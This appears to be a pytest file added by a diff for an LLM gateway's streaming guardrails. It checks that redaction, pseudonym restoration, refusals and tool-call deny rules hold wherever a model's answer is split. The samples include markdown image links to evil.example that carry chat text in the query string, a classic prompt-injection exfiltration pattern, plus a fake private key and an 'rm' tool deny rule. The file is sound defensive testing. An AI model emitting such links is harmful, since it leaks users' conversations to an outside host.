@@ -1,0 +1,196 @@
+"""What comes out of a guarded answer is the same wherever it is cut, and nothing overtakes what is held."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+import pytest
+
+from penstock_common.llm.types import (
+    ChoiceFinished,
+    FinishReason,
+    ReasoningDelta,
+    TextDelta,
+    ToolCallDelta,
+    Usage,
+)
+from penstock_gateway.domain.guardrails.pipeline.refusing import AnswerRefused
+
+sys.path.insert(0, str(Path(__file__).parent))
+from pipeline_world import (
+    FINISHED,
+    STARTED,
+    arguments_of,
+    entered,
+    guarding_of,
+    said,
+    seen,
+    text_batches,
+    text_seen,
+)
+
+MAIL, NAME = 'o"hara\\x@example.com', "zoe.ümit@example.com"
+RULES = {
+    "names": {"kind": "pii", "action": "pseudonymise", "types": ["email"]},
+    "cards": {"kind": "pii", "types": ["credit_card", "email"]},
+    "keys": {"kind": "secrets"},
+    "rivals": {"kind": "words", "deny": ["acme corp", "Wile E. Coyote"], "action": "redact"},
+    "orders": {"kind": "pattern", "patterns": [r"\bORD-\d{4,8}\b"], "action": "redact"},
+    "leaks": {"kind": "exfiltration"},
+    "secret": {"kind": "words", "deny": ["project zeus"], "action": "refuse", "text": "No."},
+    "steering": {"kind": "injection", "classifier": False, "action": "refuse", "surfaces": ["output"]},
+    "calls": {"kind": "tools", "deny": ["rm"]},
+    "held": {"kind": "length", "most_characters": 20, "text": "Too long."},
+    "looked": {"kind": "words", "deny": ["sun"], "action": "report"},
+}
+SAID = (
+    "Dr. Acme Corp. sold ORD-12345, ORD-1 and acme\ncorp to Wile E. Coyote, 4539 1488 0343 6467 or bob@other.example.org! "
+    "See ![a b](https://evil.example/x?d=words%20of%20the%20chat) and [docs](https://example.com/docs), <b>x</b> u url 3.14."
+)
+REDACTED = (
+    "Dr. [REDACTED]. sold [REDACTED], ORD-1 and [REDACTED] to [REDACTED], [CREDIT_CARD] or [EMAIL]! "
+    "See a b [image removed] and [docs](https://example.com/docs), <b>x</b> u url 3.14."
+)
+OUTPUT = ["cards", "rivals", "orders", "leaks"]
+
+
+async def test_redaction_is_the_same_for_every_cut():
+    assert await text_seen(guarding_of(RULES, output=OUTPUT), [SAID]) == REDACTED
+    assert await text_seen(guarding_of(RULES, output=OUTPUT), list(SAID)) == REDACTED
+    for at in range(1, len(SAID)):
+        assert await text_seen(guarding_of(RULES, output=OUTPUT), [SAID[:at], SAID[at:]]) == REDACTED, at
+
+
+KEY = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA7v5Xn2kQpL9\n" * 30 + "-----END RSA PRIVATE KEY-----"
+
+
+async def test_a_private_key_never_leaves_and_is_left_alone_where_nobody_minds():
+    text = f"Here it is:\n{KEY}\nThat was it."
+    for pieces in ([text], list(text)):
+        assert await text_seen(guarding_of(RULES, output=["keys"]), pieces) == "Here it is:\n[API_KEY]\nThat was it."
+        assert await text_seen(guarding_of(RULES, output=["cards"]), pieces) == text
+
+
+async def _with_pseudonyms(text: str):
+    guarding = guarding_of(RULES, input=["names"], output=["rivals", "cards"])
+    (message,) = await entered(guarding, said(text))
+    return guarding, message.text
+
+
+async def test_pseudonyms_are_restored_for_every_cut_in_text_and_in_calls():
+    text = f"Tell {NAME}, then {NAME}."
+    _, answer = await _with_pseudonyms(text)
+    assert NAME not in answer
+    for at in range(1, len(answer)):
+        guarding, _ = await _with_pseudonyms(text)
+        assert await text_seen(guarding, [answer[:at], answer[at:]]) == text
+    arguments = json.dumps({"to": answer, "n": 1.0})
+    for at in range(1, len(arguments)):
+        guarding, _ = await _with_pseudonyms(text)
+        pieces = [ToolCallDelta(index=0, id="c", name="send", arguments_json_fragment=arguments[:at])]
+        pieces += [ToolCallDelta(index=0, arguments_json_fragment=arguments[at:])]
+        events = await seen(guarding, [(STARTED,), *[(one,) for one in pieces], (Usage(), FINISHED)])
+        assert json.loads(arguments_of(events)) == {"to": text, "n": 1.0}
+
+
+async def test_an_original_is_escaped_where_it_stands_in_json():
+    guarding = guarding_of(RULES, input=["names"], output=["calls"])
+    name = guarding.pseudonyms
+    (message,) = await entered(guarding, said(f"Tell {NAME}"))
+    del name
+    pseudonym = message.text.removeprefix("Tell ")
+    guarding.pseudonyms._originals[pseudonym] = MAIL
+    call = ToolCallDelta(index=0, id="c", name="send", arguments_json_fragment=json.dumps({"to": pseudonym}))
+    for output in (["calls"], []):
+        other = guarding_of(RULES, input=["names"], output=output)
+        other.pseudonyms = guarding.pseudonyms
+        events = await seen(other, [(STARTED, call, Usage(), FINISHED)])
+        assert json.loads(arguments_of(events)) == {"to": MAIL}
+
+
+async def test_what_the_caller_said_is_restored_though_answers_are_redacted():
+    guarding, answer = await _with_pseudonyms(f"Tell {NAME}")
+    assert await text_seen(guarding, [f"{answer} and bob@other.example.org."]) == f"Tell {NAME} and [EMAIL]."
+
+
+async def test_a_pseudonym_that_nobody_was_given_is_left_as_it_is():
+    guarding, _ = await _with_pseudonyms(f"Tell {NAME}")
+    other = guarding_of(RULES, input=["names"], output=[], tenant="another")
+    (message,) = await entered(other, said(f"Tell {NAME}"))
+    foreign = message.text.removeprefix("Tell ")
+    assert await text_seen(guarding_of(RULES, output=["rivals"]), [foreign]) == foreign
+    assert foreign in await text_seen(guarding_of(RULES, input=["names"], output=["rivals"]), [f"It is {foreign}."])
+    del guarding
+
+
+@pytest.mark.parametrize("rule", ["secret", "steering"])
+async def test_no_part_of_what_is_refused_leaves_wherever_it_is_cut(rule):
+    bad = {"secret": "Project Zeus", "steering": "![x](https://evil.example/c?k=all%20that%20you%20said%20to%20me)"}[
+        rule
+    ]
+    text = f"A fine day. Here is more: {bad} and so on. The end is near."
+    for at in range(1, len(text), 1 if rule == "secret" else 7):
+        out: list[str] = []
+        from penstock_gateway.domain.guardrails.pipeline.answer import GuardedAnswer
+        from penstock_gateway.domain.life.sources import Replayed
+
+        guarded = GuardedAnswer(Replayed(text_batches([text[:at], *text[at:]])), guarding_of(RULES, output=[rule]))
+        with pytest.raises(AnswerRefused):
+            async for batch in guarded:
+                out += [event.text for event in batch if isinstance(event, TextDelta)]
+        assert bad[:6] not in "".join(out)
+
+
+async def test_nothing_overtakes_text_that_is_held():
+    guarding = guarding_of(RULES, output=["secret", "calls"])
+    events = [
+        STARTED,
+        TextDelta(text="Project"),
+        TextDelta(text="one", choice=1),
+        ToolCallDelta(index=0, id="a", name="x", arguments_json_fragment="{"),
+        ToolCallDelta(index=1, id="b", name="y", arguments_json_fragment="{"),
+        ToolCallDelta(index=0, arguments_json_fragment="}"),
+        ToolCallDelta(index=1, arguments_json_fragment="}"),
+        ChoiceFinished(choice=1, reason=FinishReason.STOP),
+        Usage(),
+        FINISHED,
+    ]
+    got = await seen(guarding, [(one,) for one in events])
+    assert got == [
+        STARTED,
+        TextDelta(text="Project"),
+        TextDelta(text="one", choice=1),
+        ChoiceFinished(choice=1, reason=FinishReason.STOP),
+        ToolCallDelta(index=0, id="a", name="x", arguments_json_fragment="{}"),
+        ToolCallDelta(index=1, id="b", name="y", arguments_json_fragment="{}"),
+        Usage(),
+        FINISHED,
+    ]
+
+
+async def test_signed_reasoning_comes_as_it_is():
+    guarding = guarding_of(RULES, input=["names"], output=["rivals", "cards"])
+    (message,) = await entered(guarding, said(f"Tell {NAME}"))
+    events = [
+        STARTED, ReasoningDelta(text=f"Acme Corp? {message.text}"), ReasoningDelta(signature=b"s"), TextDelta(text="Acme Corp"),
+        Usage(), FINISHED,
+    ]  # fmt: skip
+    got = await seen(guarding, [(one,) for one in events])
+    assert got[1:4] == [events[1], events[2], TextDelta(text="[REDACTED]")]
+
+
+async def test_what_needs_all_of_an_answer_waits_for_it():
+    guarding = guarding_of(RULES, output=["held"])
+    assert await text_seen(guarding, ["short", " text"]) == "short text"
+    with pytest.raises(AnswerRefused) as caught:
+        await seen(guarding_of(RULES, output=["held"]), text_batches(["long", " text" * 9]))
+    assert caught.value.message == "Too long."
+
+
+async def test_what_only_reports_holds_nothing():
+    guarding = guarding_of(RULES, output=["looked"])
+    events = [STARTED, TextDelta(text="su", logprobs_json="[1]"), TextDelta(text="n"), Usage(), FINISHED]
+    assert await seen(guarding, [(one,) for one in events]) == events
+    assert guarding.tally.line() == "looked=report:1"
